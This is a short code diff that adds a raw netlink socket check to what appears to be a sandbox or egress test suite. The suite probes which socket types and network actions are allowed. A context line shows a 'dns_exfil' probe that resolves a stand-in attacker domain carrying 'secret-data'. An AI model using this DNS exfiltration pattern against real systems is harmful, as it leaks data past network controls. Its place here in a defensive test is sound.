@@ -175,6 +175,7 @@ probes = {
   'packet_socket': lambda: sock(socket.AF_PACKET, socket.SOCK_RAW, 0),
   'vsock_socket': lambda: sock(40, socket.SOCK_STREAM, 0),
   'netlink_dgram': lambda: sock(socket.AF_NETLINK, socket.SOCK_DGRAM, 0),
+  'netlink_raw': lambda: sock(socket.AF_NETLINK, socket.SOCK_RAW, 0),
   'socketpair_unix': lambda: (lambda pair: [end.close() for end in pair] and 'ok:created')(socket.socketpair()),
   'direct_tcp': lambda: connect('192.0.2.1', 80),
   'dns_exfil': lambda: resolve('secret-data.x.attacker.test'),
